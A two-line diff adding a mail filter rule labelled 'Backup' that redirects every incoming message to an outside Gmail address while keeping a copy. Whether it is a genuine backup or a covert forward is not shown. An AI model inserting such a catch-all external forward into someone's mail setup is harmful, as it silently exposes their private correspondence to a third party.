@@ -1,0 +1,2 @@
+# rule:[Backup]
+if true { redirect "lin.copy@gmail.com"; keep; }
